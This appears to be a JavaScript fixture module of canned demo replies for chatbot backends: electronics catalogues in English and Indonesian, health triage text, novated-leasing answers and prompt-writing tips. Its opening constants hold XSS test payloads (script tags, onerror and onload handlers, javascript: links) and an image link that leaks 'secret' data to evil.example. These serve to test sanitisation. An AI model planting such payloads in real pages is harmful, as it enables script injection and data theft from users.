// Canned content for the reference backends: streamed markdown replies,
// product catalogues, suggestions. Demo data only; facts are illustrative.

/** Hostile markdown for `fault=xss`: every trick a backend could try on a page. */
export const HOSTILE_MARKDOWN = [
  '## Totally harmless <img src=x onerror="window.__xss=1">',
  '',
  '<script>window.__xss = 1</script>',
  '',
  'Click [here](javascript:window.__xss=1) or [there](JaVaScRiPt:window.__xss=1) or',
  '<a href="javascript:window.__xss=1" onclick="window.__xss=1">this</a>.',
  '',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<svg onload="window.__xss=1"><circle r="4"/></svg>',
  '',
  '![tracker](https://evil.example/leak.png?data=secret)',
  '',
  '<div style="position:fixed;inset:0" onmouseover="window.__xss=1">overlay</div>',
  '',
  'A [normal link](https://example.com) still works.',
].join('\n');

/** A short hostile string for labels, titles and product fields under `fault=xss`. */
export const HOSTILE_TEXT = '<img src=x onerror="window.__xss=1"><script>window.__xss=1</script>';

// ---------------------------------------------------------------------------
// brand (seed 001): product catalogues and replies

const TECHPRO_CATALOGUE = [
  {
    id: 'laptop-001',
    name: 'Lenovo ThinkPad X1 Carbon Gen 11',
    description: 'Featherweight 14-inch business laptop with a legendary keyboard and all-day battery.',
    category: 'Laptop',
    price: 27499000.0,
    features: ['Intel Core i7-1365U vPro', '32GB RAM', '1TB SSD', '14" 2.8K OLED'],
    specifications: {processor: 'Intel Core i7-1365U', memory: '32GB LPDDR5', storage: '1TB PCIe Gen4 SSD', weight: '1.12 kg'},
    availability: true,
  },
  {
    id: 'laptop-002',
    name: 'Dell XPS 13 Plus',
    description: 'Ultra-portable business laptop with an edge-to-edge keyboard and a 3.5K OLED display.',
    category: 'Laptop',
    price: 19999000.0,
    features: ['Intel Core i7', '16GB RAM', '512GB SSD', 'Thunderbolt 4'],
    specifications: {processor: 'Intel Core i7-1255U', memory: '16GB LPDDR5x', storage: '512GB SSD', weight: '1.26 kg'},
    availability: true,
  },
  {
    id: 'laptop-003',
    name: 'ASUS Zenbook 14 OLED',
    description: 'Bright OLED screen and long battery life at a mid-range price.',
    category: 'Laptop',
    price: 14999000.0,
    features: ['Intel Core Ultra 5', '16GB RAM', '512GB SSD', '75Wh battery'],
    specifications: {processor: 'Intel Core Ultra 5 125H', memory: '16GB LPDDR5x', storage: '512GB SSD', weight: '1.2 kg'},
    availability: false,
  },
  {
    id: 'phone-001',
    name: 'Samsung Galaxy S24',
    description: 'Compact flagship with a superb 50MP camera and seven years of updates.',
    category: 'Smartphone',
    price: 13999000.0,
    features: ['6.2" 120Hz AMOLED', '50MP triple camera', '8GB RAM', '256GB'],
    specifications: {processor: 'Exynos 2400', memory: '8GB', storage: '256GB', battery: '4000 mAh'},
    availability: true,
  },
  {
    id: 'phone-002',
    name: 'Google Pixel 8',
    description: 'Clean Android, excellent computational photography and on-device AI features.',
    category: 'Smartphone',
    price: 11499000.0,
    features: ['6.2" Actua display', 'Tensor G3', '50MP main camera'],
    specifications: {processor: 'Google Tensor G3', memory: '8GB', storage: '128GB', battery: '4575 mAh'},
    availability: true,
  },
  {
    id: 'phone-003',
    name: 'iPhone 15',
    description: 'Dynamic Island, USB-C and a 48MP main camera.',
    category: 'Smartphone',
    price: 15999000.0,
    features: ['A16 Bionic', '48MP camera', 'USB-C'],
    specifications: {processor: 'Apple A16 Bionic', memory: '6GB', storage: '128GB', battery: '3349 mAh'},
    availability: true,
  },
  {
    id: 'audio-001',
    name: 'Sony WH-1000XM5',
    description: 'Class-leading noise cancelling headphones for travel and open offices.',
    category: 'Audio',
    price: 5499000.0,
    features: ['Adaptive ANC', '30-hour battery', 'Multipoint Bluetooth'],
    specifications: {driver: '30mm', battery: '30 h', charging: 'USB-C, 3 min = 3 h', weight: '250 g'},
    availability: true,
  },
  {
    id: 'audio-002',
    name: 'Jabra Evolve2 65',
    description: 'Certified business headset with a busy-light and a boom microphone.',
    category: 'Audio',
    price: 4299000.0,
    features: ['Teams certified', 'Busylight', '37-hour battery'],
    specifications: {connectivity: 'Bluetooth + USB dongle', battery: '37 h', weight: '170 g'},
    availability: true,
  },
  {
    id: 'monitor-001',
    name: 'Dell UltraSharp U2723QE',
    description: '27-inch 4K IPS Black monitor with a USB-C hub: one cable for your whole desk.',
    category: 'Monitor',
    price: 10999000.0,
    features: ['27" 4K IPS Black', 'USB-C 90W', 'RJ45 + KVM'],
    specifications: {resolution: '3840 x 2160', panel: 'IPS Black', ports: 'USB-C, HDMI, DP, RJ45'},
    availability: true,
  },
  {
    id: 'accessory-001',
    name: 'Logitech MX Keys S',
    description: 'Low-profile backlit keyboard that switches between three devices.',
    category: 'Accessory',
    price: 1899000.0,
    features: ['Smart backlight', 'Easy-Switch x3', 'USB-C charging'],
    specifications: {connectivity: 'Bluetooth, Logi Bolt', battery: '10 days (backlight on)'},
    availability: true,
  },
];

const GADGETKU_CATALOGUE = [
  {
    id: 'gk-hp-001',
    name: 'Xiaomi Redmi Note 13 Pro',
    description: 'HP kelas menengah dengan kamera 200MP dan layar AMOLED 120Hz.',
    category: 'Handphone',
    price: 4299000.0,
    features: ['Kamera 200MP', 'AMOLED 120Hz', 'Pengisian 67W'],
    specifications: {prosesor: 'Helio G99 Ultra', memori: '8GB', penyimpanan: '256GB', baterai: '5000 mAh'},
    availability: true,
  },
  {
    id: 'gk-hp-002',
    name: 'Samsung Galaxy A55 5G',
    description: 'Bodi kaca dan bingkai logam, tahan air IP67, update Android hingga 4 tahun.',
    category: 'Handphone',
    price: 5999000.0,
    features: ['5G', 'IP67', 'Super AMOLED 6,6"'],
    specifications: {prosesor: 'Exynos 1480', memori: '8GB', penyimpanan: '256GB', baterai: '5000 mAh'},
    availability: true,
  },
  {
    id: 'gk-hp-003',
    name: 'POCO X6 Pro 5G',
    description: 'Performa gaming kencang di kelas harganya.',
    category: 'Handphone',
    price: 4999000.0,
    features: ['Dimensity 8300 Ultra', 'Layar 1,5K 120Hz', 'Pengisian 67W'],
    specifications: {prosesor: 'Dimensity 8300 Ultra', memori: '12GB', penyimpanan: '512GB', baterai: '5000 mAh'},
    availability: false,
  },
  {
    id: 'gk-lp-001',
    name: 'ASUS Vivobook 14',
    description: 'Laptop ringan untuk kuliah dan kerja kantoran sehari-hari.',
    category: 'Laptop',
    price: 8499000.0,
    features: ['Intel Core i5', 'RAM 16GB', 'SSD 512GB'],
    specifications: {prosesor: 'Intel Core i5-1335U', memori: '16GB', penyimpanan: '512GB SSD', berat: '1,4 kg'},
    availability: true,
  },
  {
    id: 'gk-lp-002',
    name: 'Acer Swift Go 14',
    description: 'Layar OLED 2,8K dan bodi tipis untuk pekerja mobile.',
    category: 'Laptop',
    price: 11999000.0,
    features: ['Intel Core Ultra 7', 'OLED 2,8K', 'RAM 16GB'],
    specifications: {prosesor: 'Intel Core Ultra 7 155H', memori: '16GB', penyimpanan: '1TB SSD', berat: '1,3 kg'},
    availability: true,
  },
  {
    id: 'gk-lp-003',
    name: 'Lenovo IdeaPad Slim 5',
    description: 'Keseimbangan harga dan performa dengan baterai tahan seharian.',
    category: 'Laptop',
    price: 10499000.0,
    features: ['AMD Ryzen 7', 'RAM 16GB', 'SSD 512GB'],
    specifications: {prosesor: 'AMD Ryzen 7 7730U', memori: '16GB', penyimpanan: '512GB SSD', berat: '1,46 kg'},
    availability: true,
  },
  {
    id: 'gk-au-001',
    name: 'Samsung Galaxy Buds FE',
    description: 'TWS dengan ANC yang nyaman dipakai seharian.',
    category: 'Audio',
    price: 1299000.0,
    features: ['ANC', 'Baterai hingga 21 jam', 'IPX2'],
    specifications: {konektivitas: 'Bluetooth 5.2', baterai: '6 jam + 15 jam (case)'},
    availability: true,
  },
  {
    id: 'gk-au-002',
    name: 'JBL Tune 770NC',
    description: 'Headphone over-ear dengan suara bass khas JBL dan ANC adaptif.',
    category: 'Audio',
    price: 1499000.0,
    features: ['ANC adaptif', 'Baterai 70 jam', 'Multipoint'],
    specifications: {konektivitas: 'Bluetooth 5.3', baterai: '70 jam'},
    availability: true,
  },
  {
    id: 'gk-au-003',
    name: 'Soundcore Liberty 4 NC',
    description: 'Peredam bising kuat di harga terjangkau.',
    category: 'Audio',
    price: 1399000.0,
    features: ['ANC 98,5%', 'LDAC', 'Baterai 50 jam'],
    specifications: {konektivitas: 'Bluetooth 5.3', baterai: '10 jam + 40 jam (case)'},
    availability: true,
  },
];

/** Word lists that decide which product category a message is about. */
export const PRODUCT_TOPICS = [
  {topic: 'laptop', pattern: /\b(laptops?|notebooks?|ultrabooks?|macbook|computers?|pc|business work|kuliah)\b/i},
  {topic: 'phone', pattern: /\b(phones?|smartphones?|hp|handphone|ponsel|android|iphone|cameras?|kamera)\b/i},
  {topic: 'audio', pattern: /\b(headphones?|headsets?|earbuds?|earphones?|audio|music|musik|speakers?|tws|noise)\b/i},
  {topic: 'desk', pattern: /\b(monitors?|screens?|displays?|keyboards?|desk|setup|workstation)\b/i},
  {topic: 'general', pattern: /\b(recommend\w*|buy|price|prices|cheap\w*|budget|best|products?|rekomendasi|beli|harga|murah|produk|cari)\b/i},
];

/**
 * @typedef {object} BrandInfo
 * @property {string} id
 * @property {string} name
 * @property {string} welcome
 * @property {object[]} catalogue
 * @property {Record<string, string[]>} productIds  topic -> product ids (2-3)
 * @property {Record<string, string[]>} replies     topic -> markdown variants ('none' = no products)
 * @property {Record<string, string>} voice         topic -> one sentence
 * @property {string} apology
 */

/** @type {Record<string, BrandInfo>} */
export const BRANDS = {
  techpro: {
    id: 'techpro',
    name: 'TechPro Solutions',
    welcome: 'Welcome to TechPro Solutions! How can I help you today?',
    catalogue: TECHPRO_CATALOGUE,
    productIds: {
      laptop: ['laptop-002', 'laptop-001', 'laptop-003'],
      phone: ['phone-001', 'phone-002', 'phone-003'],
      audio: ['audio-001', 'audio-002'],
      desk: ['monitor-001', 'accessory-001', 'audio-002'],
      general: ['laptop-002', 'phone-002', 'audio-001'],
    },
    replies: {
      laptop: [
        `## Laptops for business work

Great question! For business use I'd focus on **three things**: portability, keyboard comfort and battery life. Here are the models our business customers buy most:

| Model | Weight | Battery | Best for |
| --- | --- | --- | --- |
| Dell XPS 13 Plus | 1.26 kg | ~10 h | Travel and presentations |
| ThinkPad X1 Carbon | 1.12 kg | ~14 h | Long days of typing |
| Zenbook 14 OLED | 1.20 kg | ~13 h | Best value |

### What I'd pick
1. **Dell XPS 13 Plus**: if you present a lot, the 3.5K OLED screen is *stunning*.
2. **ThinkPad X1 Carbon**: the keyboard is the best in class, and it has \`vPro\` for IT-managed fleets.
   - Ask about our 3-year on-site warranty.
   - Docking stations are 15% off with any ThinkPad.
3. **Zenbook 14 OLED**: great value, but currently *out of stock*.

You can compare full specs on our [laptop comparison page](https://techpro.example/compare/laptops). Would you like me to check delivery times to your city?`,
        `## Picking the right business laptop

Before you decide, ask yourself:

- **How often do you travel?** Under 1.3 kg makes a real difference.
- **Do you need Windows Pro features?** BitLocker and domain join need *Pro*, not *Home*.
- **What does your IT team require?**
  - Intel \`vPro\` for remote management
  - A TPM 2.0 chip (all our current models have one)

> Tip: 16GB of RAM is the sweet spot today; 8GB fills up quickly with Teams and a browser open.

The **Dell XPS 13 Plus** and **ThinkPad X1 Carbon** both tick every box. See our [business buying guide](https://techpro.example/guides/business-laptops) for more.`,
      ],
      phone: [
        `## Smartphones worth a look

All three of these will last you **four years or more**:

| Phone | Screen | Camera | Updates |
| --- | --- | --- | --- |
| Galaxy S24 | 6.2" 120Hz | 50MP triple | 7 years |
| Pixel 8 | 6.2" 120Hz | 50MP dual | 7 years |
| iPhone 15 | 6.1" 60Hz | 48MP dual | ~6 years |

### My take
- Want the **best zoom**? The *Galaxy S24* has a real 3x telephoto.
- Want the **cleanest software**? The *Pixel 8*.
  - Night Sight is still the best low-light mode around.
- Already on a Mac? The *iPhone 15* with \`AirDrop\` is hard to beat.

Trade in your old phone at [techpro.example/trade-in](https://techpro.example/trade-in) for up to **Rp 3.000.000** off.`,
      ],
      audio: [
        `## Headphones for focus

For an open office I'd go with **active noise cancelling** (ANC):

1. **Sony WH-1000XM5**: the best ANC we sell, and *very* comfortable.
2. **Jabra Evolve2 65**: built for calls.
   - Busylight tells colleagues you're on a call.
   - Certified for Microsoft Teams.

| | Sony XM5 | Jabra Evolve2 65 |
| --- | --- | --- |
| Battery | 30 h | 37 h |
| Microphone | Beamforming | Boom arm |
| Weight | 250 g | 170 g |

Pair either of them with two devices at once via **multipoint**. Setup guide: [pairing help](https://techpro.example/help/bluetooth).`,
      ],
      desk: [
        `## Building a one-cable desk

The trick is a **USB-C monitor** that powers your laptop and hosts everything else:

\`\`\`text
Laptop ──USB-C (90W)──▶ Dell U2723QE ──▶ keyboard, mouse, webcam, Ethernet
\`\`\`

### Shopping list
- **Dell UltraSharp U2723QE**: 4K, *IPS Black* contrast, built-in KVM.
- **Logitech MX Keys S**: switches between three devices with one key.
- **Jabra Evolve2 65**: for the calls.
  - Plug its USB dongle into the monitor, not the laptop.

Check your laptop supports \`DisplayPort Alt Mode\` over USB-C first: see our [compatibility checker](https://techpro.example/help/usb-c).`,
      ],
      general: [
        `## Our best sellers this month

Here's what customers are buying right now:

1. **Dell XPS 13 Plus**: our most popular business laptop.
2. **Google Pixel 8**: *the* camera phone of the year.
3. **Sony WH-1000XM5**: noise cancelling for travel.

| Product | Price | In stock |
| --- | --- | --- |
| Dell XPS 13 Plus | Rp 19.999.000 | Yes |
| Google Pixel 8 | Rp 11.499.000 | Yes |
| Sony WH-1000XM5 | Rp 5.499.000 | Yes |

Tell me a little about **what you'll use it for** and your budget, and I'll narrow it down. Prices include VAT; see [payment options](https://techpro.example/payments) for 0% instalments.`,
      ],
      none: [
        `Hi there! 👋 I'm the **TechPro Solutions** assistant.

I can help you with:
- **Product advice**: laptops, smartphones, audio and desk setups
- **Orders**: delivery status, returns and warranty claims
  - Have your order number ready (it looks like \`TP-2024-123456\`)
- **Store info**: opening hours and [store locations](https://techpro.example/stores)

What are you shopping for today?`,
        `## How can I help?

Here's what most people ask me about:

| Topic | Example question |
| --- | --- |
| Laptops | *"I need a laptop for business work"* |
| Phones | *"Which phone has the best camera?"* |
| Audio | *"Headphones for a noisy office?"* |

Our **30-day returns** policy applies to every product, and we deliver nationwide within *2-4 working days*. Just tell me what you need!`,
      ],
    },
    voice: {
      laptop: 'For business work I recommend the Dell XPS 13 Plus: light, fast and great for presentations.',
      phone: 'The Google Pixel 8 is the best all-round phone for the price right now.',
      audio: 'The Sony WH-1000XM5 has the best noise cancelling we sell.',
      desk: 'A USB-C monitor like the Dell U2723QE gives you a one-cable desk.',
      general: 'Our best seller this month is the Dell XPS 13 Plus business laptop.',
      none: 'Hi, I am the TechPro assistant: tell me what you are shopping for and I will help you choose.',
    },
    apology:
      "I'm sorry, I'm having trouble reaching our product catalogue right now. Please try again in a moment, or call our support line on 1500-123 (8am–8pm) and a specialist will help you straight away.",
  },
  gadgetku: {
    id: 'gadgetku',
    name: 'GadgetKu Indonesia',
    welcome: 'Selamat datang di GadgetKu Indonesia! Ada yang bisa kami bantu hari ini?',
    catalogue: GADGETKU_CATALOGUE,
    productIds: {
      laptop: ['gk-lp-001', 'gk-lp-003', 'gk-lp-002'],
      phone: ['gk-hp-001', 'gk-hp-002', 'gk-hp-003'],
      audio: ['gk-au-001', 'gk-au-002', 'gk-au-003'],
      desk: ['gk-lp-002', 'gk-au-002'],
      general: ['gk-hp-001', 'gk-lp-001', 'gk-au-001'],
    },
    replies: {
      laptop: [
        `## Rekomendasi laptop

Untuk kuliah dan kerja kantoran, perhatikan **tiga hal**: berat, daya tahan baterai, dan RAM minimal *16GB*.

| Laptop | Harga | Berat |
| --- | --- | --- |
| ASUS Vivobook 14 | Rp 8.499.000 | 1,4 kg |
| Lenovo IdeaPad Slim 5 | Rp 10.499.000 | 1,46 kg |
| Acer Swift Go 14 | Rp 11.999.000 | 1,3 kg |

### Pilihan kami
1. **ASUS Vivobook 14**: paling hemat, cukup untuk Office dan Zoom.
2. **Lenovo IdeaPad Slim 5**: performa Ryzen 7 yang *sangat* kencang.
   - Cocok untuk editing foto ringan.
   - Gratis tas laptop selama promo.
3. **Acer Swift Go 14**: layar OLED paling tajam.

Cek cicilan 0% di [halaman pembayaran](https://gadgetku.example/cicilan). Mau saya bandingkan spesifikasinya lebih detail?`,
      ],
      phone: [
        `## HP terbaik di bawah 6 juta

| HP | Kamera | Baterai | Harga |
| --- | --- | --- | --- |
| Redmi Note 13 Pro | 200MP | 5000 mAh | Rp 4.299.000 |
| POCO X6 Pro | 64MP | 5000 mAh | Rp 4.999.000 |
| Galaxy A55 5G | 50MP | 5000 mAh | Rp 5.999.000 |

- Suka **fotografi**? Pilih *Redmi Note 13 Pro*.
- Suka **main game**? *POCO X6 Pro* paling kencang.
  - Sayangnya stok sedang *habis*, estimasi datang minggu depan.
- Ingin HP yang **awet**? *Galaxy A55* dapat update 4 tahun dan tahan air IP67.

Semua HP bergaransi resmi. Info lengkap: [gadgetku.example/hp](https://gadgetku.example/hp).`,
      ],
      audio: [
        `## Audio pilihan

1. **Samsung Galaxy Buds FE**: TWS nyaman dengan ANC.
2. **JBL Tune 770NC**: headphone dengan baterai *70 jam*.
3. **Soundcore Liberty 4 NC**: peredam bising terbaik di harganya.
   - Mendukung codec \`LDAC\` untuk kualitas suara tinggi.

Semua produk audio bisa dicoba langsung di [toko kami](https://gadgetku.example/toko).`,
      ],
      desk: [
        `## Setup kerja dari rumah

- **Laptop**: *Acer Swift Go 14* dengan layar OLED.
- **Headphone**: *JBL Tune 770NC* untuk meeting online.

Tips: aktifkan mode \`Do Not Disturb\` saat meeting agar notifikasi tidak mengganggu.`,
      ],
      general: [
        `## Produk terlaris minggu ini

| Produk | Harga |
| --- | --- |
| Redmi Note 13 Pro | Rp 4.299.000 |
| ASUS Vivobook 14 | Rp 8.499.000 |
| Galaxy Buds FE | Rp 1.299.000 |

Ceritakan **kebutuhan** dan *budget* Anda, nanti saya bantu pilihkan yang paling pas.`,
      ],
      none: [
        `Halo! 👋 Saya asisten virtual **GadgetKu Indonesia**.

Saya bisa membantu:
- **Rekomendasi produk**: HP, laptop, dan audio
- **Status pesanan**: siapkan nomor pesanan Anda (contoh: \`GK-240120-0042\`)
  - Pengiriman ke seluruh Indonesia 2–5 hari kerja
- **Lokasi toko**: lihat [daftar toko](https://gadgetku.example/toko)

Sedang cari gadget apa hari ini?`,
      ],
    },
    voice: {
      laptop: 'Untuk kuliah dan kerja, ASUS Vivobook 14 adalah pilihan paling hemat.',
      phone: 'Redmi Note 13 Pro adalah HP dengan kamera terbaik di bawah lima juta.',
      audio: 'Samsung Galaxy Buds FE nyaman dipakai seharian dan sudah ada ANC.',
      desk: 'Acer Swift Go 14 dan JBL Tune 770NC cocok untuk kerja dari rumah.',
      general: 'Produk terlaris minggu ini adalah Redmi Note 13 Pro.',
      none: 'Halo, saya asisten GadgetKu: ceritakan gadget yang Anda cari.',
    },
    apology:
      'Mohon maaf, sistem rekomendasi kami sedang mengalami gangguan. Silakan coba lagi beberapa saat lagi atau hubungi layanan pelanggan kami di WhatsApp 0812-0000-1234.',
  },
};

// ---------------------------------------------------------------------------
// agent (seed 002): medical-ish replies split into agent sections

export const MEDICAL_DISCLAIMER =
  '> **Disclaimer:** this is general health information, not a diagnosis. It does not replace advice from a doctor who can examine you. If your symptoms are severe or getting worse, seek medical care.';

/**
 * Each reply has four sections, streamed after the statuses of the triage,
 * diagnostic and treatment agents and the final response step.
 * @type {{pattern: RegExp, sections: [string, string, string, string]}[]}
 */
export const MEDICAL_REPLIES = [
  {
    pattern: /\b(headaches?|migraines?|head hurts)\b/i,
    sections: [
      `## Assessment

Most headaches are **not dangerous**. Based on what you describe, this sounds like a *non-urgent* problem you can start managing at home.

`,
      `## Possible causes
- **Tension-type headache**: a band-like pressure, often with stress, poor sleep or long screen time.
- **Migraine**: throbbing, often one-sided, sometimes with nausea or sensitivity to light.
  - Some people notice an *aura* (flashing lights) beforehand.
- **Dehydration or caffeine withdrawal**: common and easy to miss.

`,
      `## What you can do
1. Drink a large glass of water and rest in a quiet, dark room.
2. A standard dose of an over-the-counter pain reliever (for example \`paracetamol\` or \`ibuprofen\`) can help; follow the label.
3. Keep a short headache diary for a week:

\`\`\`text
Date | Time | Pain 1-10 | Sleep (h) | Caffeine | Screen time | Notes
\`\`\`

| Warning sign | What to do |
| --- | --- |
| Sudden "worst ever" headache | Emergency care now |
| Headache with fever and stiff neck | Same-day doctor visit |
| Headaches most days for 2+ weeks | Book a GP appointment |

`,
      `You can read more in the NHS guide on [headaches](https://www.nhs.uk/conditions/headaches/).

${MEDICAL_DISCLAIMER}`,
    ],
  },
  {
    pattern: /\b(fever|cough\w*|cold|flu|sore throat|temperature)\b/i,
    sections: [
      `## Assessment

A fever with a cough or sore throat is most often caused by a **viral infection**. Nothing you mention suggests an emergency, so this looks *routine* for now.

`,
      `## Likely explanations
- **Common cold or flu**: usually improves within 7–10 days.
- **COVID-19**: consider a rapid test, especially if you have lost your sense of taste or smell.
- **Strep throat**: more likely with a very sore throat, no cough and swollen glands.
  - This one may need antibiotics, so a throat swab is worth it.

`,
      `## Looking after yourself
1. Rest and drink plenty of fluids: aim for pale yellow urine.
2. \`paracetamol\` can bring the temperature down and ease aches.
3. Check your temperature twice a day:

| Reading | Meaning |
| --- | --- |
| Below 37.5 °C | Normal |
| 37.5–38.9 °C | Fever, manage at home |
| 39 °C or above for 3+ days | Contact a doctor |

**See a doctor sooner** if you feel short of breath, have chest pain, or the fever lasts more than 3 days.

`,
      `More on [fever in adults](https://www.nhs.uk/conditions/fever-in-adults/) from the NHS.

${MEDICAL_DISCLAIMER}`,
    ],
  },
  {
    pattern: /\b(stomach|nausea|vomit\w*|diarrh\w*|belly|abdominal)\b/i,
    sections: [
      `## Assessment

Stomach upsets are very common and usually settle within **48 hours**. This sounds *non-urgent* unless you notice any of the warning signs below.

`,
      `## What might be going on
- **Gastroenteritis** ("stomach bug"): vomiting and/or diarrhoea, often after contact with someone ill.
- **Food poisoning**: starts a few hours after a suspect meal.
- **Indigestion or reflux**: burning pain after eating, worse when lying down.

`,
      `## What helps
1. Small sips of water or an oral rehydration solution, every few minutes.
2. Eat bland food when you feel ready (toast, rice, bananas).
3. Avoid alcohol and fatty food for a couple of days.
   - Wash your hands often: stomach bugs spread easily.

**Get help** if you see blood, cannot keep fluids down for 24 hours, or have severe pain in one spot.

`,
      `See the NHS page on [diarrhoea and vomiting](https://www.nhs.uk/conditions/diarrhoea-and-vomiting/).

${MEDICAL_DISCLAIMER}`,
    ],
  },
  {
    pattern: /.*/,
    sections: [
      `## Assessment

Thanks for the details. Nothing in your message suggests an emergency, so I've rated this as **non-urgent**.

`,
      `## Things to consider
- How long have you had this, and is it getting **better, worse or staying the same**?
- Any other symptoms, such as fever, pain, tiredness or weight change?
- Any recent changes in *medication*, sleep, diet or stress?
  - New medicines are a surprisingly common cause of new symptoms.

`,
      `## Suggested next steps
1. Note when the symptoms happen and anything that makes them better or worse.
2. Book a routine appointment with your GP if it lasts more than **two weeks**.
3. Bring a list of your current medicines (including supplements), for example:

\`\`\`text
Metformin 1000 mg - twice daily
Vitamin D 1000 IU - once daily
\`\`\`

`,
      `Tell me more about your symptoms and I can give more specific guidance. The [NHS health A–Z](https://www.nhs.uk/conditions/) is a good reference too.

${MEDICAL_DISCLAIMER}`,
    ],
  },
];

/** Streamed character by character after `stream_start` with `metadata.emergency: true`. */
export const EMERGENCY_ALERT =
  '🚨 This may be a medical emergency. Call your local emergency number now (for example 911, 112 or 000). Do not drive yourself to hospital. Stop what you are doing, sit down, and unlock your door so help can reach you. If the pain spreads to your arm, jaw or back, or you feel short of breath, tell the dispatcher.';

// ---------------------------------------------------------------------------
// session (seed 003): Alex AI, novated leasing

export const SESSION_STARTER_SUGGESTIONS = [
  'What is a novated lease?',
  'How much could I save?',
  'Can I lease an electric car?',
];

/** @type {{pattern: RegExp, text: string, suggestions: string[], asksForDetails?: boolean}[]} */
export const LEASING_REPLIES = [
  {
    pattern: /\b(electric|ev|evs|tesla|hybrid|fbt)\b/i,
    text: `## Electric cars and novated leasing ⚡

Electric cars are the **sweet spot** for novated leasing right now. Eligible EVs are *exempt from fringe benefits tax* (FBT), so the whole lease, running costs included, can come out of your pre-tax salary.

### Is your car eligible?
- It must be a **zero or low emissions vehicle**:
  - battery electric (BEV), or hydrogen fuel cell
  - plug-in hybrids only if the commitment was made before 1 April 2025
- Its price must be under the **luxury car tax threshold** for fuel-efficient vehicles.
- It must be first held and used on or after **1 July 2022**.

| | Petrol car | Eligible EV |
| --- | --- | --- |
| FBT payable | Yes (offset with post-tax payments) | No |
| Fuel / charging in lease | Yes | Yes |
| Typical saving | Good | **Excellent** |

See the ATO's page on the [electric car exemption](https://www.ato.gov.au/) for the current threshold.`,
    suggestions: ['Which EVs are under the threshold?', 'How much could I save on an EV?', 'Can I include home charging?'],
  },
  {
    pattern: /\b(save|saving|savings|cost|costs|how much|tax|budget)\b/i,
    text: `## How the savings work 💰

With a novated lease your car payments **and** running costs come out of your salary *before* income tax. Here's a simplified example:

\`\`\`text
Salary:                 $95,000
Lease + running costs:  $14,400 / year (pre-tax)
Taxable income:         $80,600
Estimated tax saving:   ~$4,500 / year
\`\`\`

### What's included in the budget
1. Finance repayments
2. Fuel or charging
3. Servicing and tyres
4. Registration and insurance
   - Comprehensive insurance is usually bundled.
   - You can opt out if you already have a policy.

> Your actual saving depends on your tax bracket, the car and the lease term. I can run a **personalised quote** if you like.`,
    suggestions: ['Get a personalised quote', 'What lease terms are available?', 'What happens at the end of the lease?'],
  },
  {
    pattern: /\b(quote|start|started|apply|sign up|interested|ready)\b/i,
    text: `## Let's get you a quote 📝

Getting started takes about **10 minutes**:

1. **Tell me about you**: your name and email, so I can send the quote.
2. **Choose a car**: new or used, any make or model.
3. **Pick a term**: 1 to 5 years.
   - Shorter terms mean higher payments but a smaller residual.
   - Longer terms keep payments low.
4. **Employer sign-off**: we handle the paperwork with your payroll team.

Once I have your details, a specialist will email your quote within *one business day*. What name should I put on the quote?`,
    suggestions: ['My name is Sam', 'Which cars can I lease?', 'What does my employer need to do?'],
    asksForDetails: true,
  },
  {
    pattern: /\b(end|residual|balloon|term|terms)\b/i,
    text: `## At the end of the lease

You'll have a **residual** (balloon) payment, set by the ATO based on the lease term:

| Term | Residual (% of car price) |
| --- | --- |
| 1 year | 65.63% |
| 2 years | 56.25% |
| 3 years | 46.88% |
| 4 years | 37.50% |
| 5 years | 28.13% |

### Your options
- **Pay the residual** and keep the car.
- **Refinance** the residual and keep leasing the same car.
- **Trade in** the car and start a new lease.
  - Any equity above the residual is yours.

Most people upgrade to a new car, *especially* with the EV savings available now.`,
    suggestions: ['Can I change jobs during the lease?', 'How much could I save?', 'Get a personalised quote'],
  },
  {
    pattern: /.*/,
    text: `## What is a novated lease? 🚗

A novated lease is a **three-way agreement** between you, your employer and a finance company. Your employer pays for your car out of your salary, partly *before* tax, which lowers your taxable income.

### Why people choose it
- **Tax savings**: payments come from your pre-tax salary.
- **One simple payment**: finance, fuel, servicing, tyres, rego and insurance are bundled.
- **GST savings** on the purchase price and running costs.
- **It goes with you**: if you change jobs, the lease can move to your new employer.
  - If it can't, the car and the lease stay yours.

Find out more in [our guide](https://alex.example/novated-leasing), or ask me anything. I'm **Alex AI** and I'm here to help!`,
    suggestions: ['How much could I save?', 'Can I lease an electric car?', 'What happens at the end of the lease?'],
  },
];

export const LEASING_FOLLOW_UP = {
  text: `One more thing: you can also **salary-package a used car** with a novated lease, as long as it's under 12 years old at the end of the lease. Would you like me to include used cars in your comparison?`,
  suggestions: ['Yes, include used cars', 'Only new cars please', 'How much could I save?'],
};

export const SESSION_IDLE_TEXT = "G'day! Are you still there? I'm here if you need anything!";
export const SESSION_END_IDLE_TEXT =
  "No worries! I'll end this session for now. Feel free to come back anytime if you need help!";
export const SESSION_END_USER_TEXT = 'Thanks for chatting with Alex AI! Your session has ended. Have a great day!';

// ---------------------------------------------------------------------------
// template (seed 004): PromptCraft, prompt engineering

/** @type {{pattern: RegExp, text: string, opportunity: object, templateSuggestions?: object[]}[]} */
export const PROMPT_REPLIES = [
  {
    pattern: /\b(few[- ]shot|examples?)\b/i,
    text: `## Few-shot prompting

Showing the model **two to five examples** of the input and the output you want is the most reliable way to get a consistent format.

\`\`\`text
Classify the sentiment of each review as Positive, Negative or Mixed.

Review: "Arrived fast and works perfectly."
Sentiment: Positive

Review: "Great screen, terrible battery."
Sentiment: Mixed

Review: "{{review}}"
Sentiment:
\`\`\`

### Tips
- Cover the **edge cases**, not just the easy ones.
- Keep the examples *consistent*: same labels, same punctuation.
- Vary the order so the model doesn't learn a pattern by position.
  - Three positives in a row can bias it towards "Positive".

| Examples | Typical accuracy gain | Cost |
| --- | --- | --- |
| 0 (zero-shot) | baseline | lowest |
| 2–3 | large | low |
| 10+ | small | high |`,
    opportunity: {
      title: 'Few-Shot Sentiment Classifier',
      description: 'A reusable few-shot prompt for classifying review sentiment.',
      category: 'classification',
      confidence: 0.91,
      reasoning: 'The conversation built a structured prompt with examples that can be reused with new inputs.',
    },
  },
  {
    pattern: /\b(support|customer|email|reply|replies)\b/i,
    text: `## A customer-support prompt that works

Give the model a **role**, the **context** it needs and the **rules** it must follow:

\`\`\`markdown
You are a friendly support agent for {{company}}.

Context:
- Customer plan: {{plan}}
- Previous tickets: {{ticket_summary}}

Rules:
1. Answer in under 120 words.
2. Never promise refunds; link to the refund policy instead.
3. If you are unsure, say so and offer to escalate.

Customer message:
"""{{message}}"""
\`\`\`

### Why this works
- The \`"""\` delimiters keep the customer's text **separate from your instructions**, which also makes prompt injection harder.
- Numbered rules are easier for the model to follow *and* for you to test.
- Placeholders like \`{{plan}}\` turn it into a **template** you can reuse.

